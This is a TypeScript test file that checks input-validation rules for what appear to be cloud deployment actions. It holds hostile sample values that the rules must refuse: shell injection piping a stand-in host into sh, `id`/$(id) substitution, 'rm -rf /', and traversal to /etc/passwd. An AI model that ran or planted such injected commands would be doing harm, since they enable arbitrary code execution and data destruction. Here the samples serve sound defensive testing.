// The actions' input rules: valid values pass through, hostile and malformed ones are refused with a reason.
import { describe, expect, it } from 'vitest';
import {
  awsRegion,
  boolean,
  bucketName,
  bucketNames,
  durationSec,
  endpointUrl,
  mappingId,
  nonNegativeInteger,
  oneOf,
  positiveInteger,
  quoted,
  RuleViolation,
  runId,
  runMode,
  stackName,
  stackParameters,
  workspaceFile,
} from '../../../actions/lib/src/input-rules.ts';

const hostile = ['x"; curl evil|sh', '`id`', '$(id)', 'a\nb', '../x', 'a b', ''];

describe('identifier rules', () => {
  it.each([
    [
      'stack names',
      stackName,
      ['ferry', 'ferry-prod-2', `F${'a'.repeat(127)}`],
      ['2ferry', 'ferry_x', `F${'a'.repeat(128)}`],
    ],
    ['mapping ids', mappingId, ['media', 'a', 'm_2-x', '0day'], ['Media', '-x', 'a.b', 'a'.repeat(64)]],
    ['run ids', runId, ['media-20261121T120000Z', 'R.1_x-2', '7'], ['.x', '-x', 'a/b', 'a'.repeat(129)]],
  ])('%s: accepts the valid, refuses the rest and every hostile value', (_what, rule, valid, invalid) => {
    for (const value of valid) expect(rule(value)).toBe(value);
    for (const value of [...invalid, ...hostile]) expect(() => rule(value), value).toThrow(RuleViolation);
  });
});

describe('bucketName', () => {
  it('accepts names within the S3 rules', () => {
    for (const name of ['abc', 'my.bucket-1', 'a'.repeat(63), '1bucket']) expect(bucketName(name)).toBe(name);
  });

  it.each([
    ['too short', 'ab'],
    ['too long', 'a'.repeat(64)],
    ['upper case', 'MyBucket'],
    ['underscore', 'my_bucket'],
    ['starts with a hyphen', '-bucket'],
    ['ends with a dot', 'bucket.'],
    ['adjacent dots', 'my..bucket'],
    ['an IP address', '192.168.5.4'],
    ['the xn-- prefix', 'xn--bucket'],
    ['the sthree- prefix', 'sthree-bucket'],
    ['the -s3alias suffix', 'bucket-s3alias'],
    ['the --ol-s3 suffix', 'bucket--ol-s3'],
    ['the .mrap suffix', 'bucket.mrap'],
    ['hostile', 'x"; curl evil|sh'],
  ])('refuses %s', (_what, name) => {
    expect(() => bucketName(name)).toThrow(RuleViolation);
  });

  it('names what is wrong and quotes the value safely', () => {
    expect(() => bucketName('my..bucket')).toThrow(
      /"my\.\.bucket" is not an S3 bucket name.*two adjacent dots/,
    );
    expect(() => bucketName('a\nb')).toThrow('"a\\nb"');
  });

  it('reads lists split by commas and newlines', () => {
    expect(bucketNames('alpha, beta\ngamma,\n')).toEqual(['alpha', 'beta', 'gamma']);
    expect(() => bucketNames('alpha,Bad_Name')).toThrow(/"Bad_Name"/);
    expect(() => bucketNames(' , ')).toThrow(RuleViolation);
  });
});

describe('numbers, booleans, durations, choices', () => {
  it('reads whole numbers strictly', () => {
    expect(positiveInteger('12')).toBe(12);
    expect(nonNegativeInteger('0')).toBe(0);
    for (const text of ['0', '-1', '1.5', '1e3', '+3', '0x10', ' 1', '9999999999999999'])
      expect(() => positiveInteger(text), text).toThrow(RuleViolation);
    expect(() => nonNegativeInteger('-1')).toThrow(/whole number \(0 or more\)/);
  });

  it('reads YAML booleans only', () => {
    expect(boolean('true')).toBe(true);
    expect(boolean('TRUE')).toBe(true);
    expect(boolean('False')).toBe(false);
    for (const text of ['yes', '1', 'on', 'tRUE']) expect(() => boolean(text), text).toThrow(/true or false/);
  });

  it('reads durations into seconds', () => {
    expect(durationSec('90')).toBe(90);
    expect(durationSec('45s')).toBe(45);
    expect(durationSec('15m')).toBe(900);
    expect(durationSec('2h')).toBe(7200);
    expect(durationSec('1h30m')).toBe(5400);
    expect(durationSec('1h0m5s')).toBe(3605);
    for (const text of ['0', '0s', '1d', '1.5h', 'm', '30 s', '1m1h', '-5s'])
      expect(() => durationSec(text), text).toThrow(RuleViolation);
  });

  it('reads one of a set of words', () => {
    const mode = oneOf(['full', 'incremental']);
    expect(mode('full')).toBe('full');
    expect(() => mode('FULL')).toThrow('"FULL" is not one of full, incremental');
  });

  it('reads a run mode, copy standing for incremental', () => {
    expect(['copy', 'incremental', 'sync', 'full'].map(runMode)).toEqual([
      'incremental',
      'incremental',
      'sync',
      'full',
    ]);
    for (const text of ['SYNC', 'delete', 'sync\nfull', 'copy; rm -rf /', ''])
      expect(() => runMode(text), text).toThrow(RuleViolation);
  });
});

describe('AWS settings', () => {
  it('reads Region codes', () => {
    for (const region of ['us-east-1', 'eu-central-2', 'cn-north-1', 'us-gov-west-1', 'ap-southeast-10'])
      expect(awsRegion(region)).toBe(region);
    for (const region of ['us-east', 'US-EAST-1', 'useast1', 'us-east-1; rm', '../us-east-1'])
      expect(() => awsRegion(region), region).toThrow(RuleViolation);
  });

  it('reads endpoint URLs without credentials or queries', () => {
    expect(endpointUrl('http://127.0.0.1:5000')).toBe('http://127.0.0.1:5000');
    expect(endpointUrl('https://vpce-1.sqs.us-east-1.vpce.amazonaws.com')).toBeTruthy();
    for (const url of ['ftp://x', 'http://user:pass@host', 'http://host/?a=b', 'not a url', 'http://host/#x'])
      expect(() => endpointUrl(url), url).toThrow(RuleViolation);
  });
});

describe('workspaceFile', () => {
  const rule = workspaceFile('/work/space');

  it('resolves paths inside the workspace', () => {
    expect(rule('templates/ferry.yaml')).toBe('/work/space/templates/ferry.yaml');
    expect(rule('/work/space/a/../b.yaml')).toBe('/work/space/b.yaml');
  });

  it('refuses paths that leave it or hold control characters', () => {
    for (const path of ['../etc/passwd', 'a/../../x', '/etc/passwd', '.', 'a\nb', '/work/spacex/y'])
      expect(() => rule(path), path).toThrow(RuleViolation);
  });
});

describe('stackParameters', () => {
  it('reads Key=Value lines, values with = and commas, skipping blanks and comments', () => {
    expect(stackParameters('A=1\n\n# note\n B=x=y, z \nEmpty=')).toEqual({ A: '1', B: 'x=y, z', Empty: '' });
  });

  it('refuses keys that are not letters and digits, repeats, and lines without =', () => {
    expect(() => stackParameters('A-B=1')).toThrow(RuleViolation);
    expect(() => stackParameters('A=1\nA=2')).toThrow('stack parameter A is given twice');
    expect(() => stackParameters('just text')).toThrow('stack parameter "just text" is not Key=Value');
    expect(() => stackParameters('x"; curl evil|sh=1')).toThrow(RuleViolation);
  });
});

describe('quoted', () => {
  it('escapes line breaks and cuts long values', () => {
    expect(quoted('a\nb')).toBe('"a\\nb"');
    expect(quoted('x'.repeat(100))).toBe(`"${'x'.repeat(80)}…"`);
  });
});
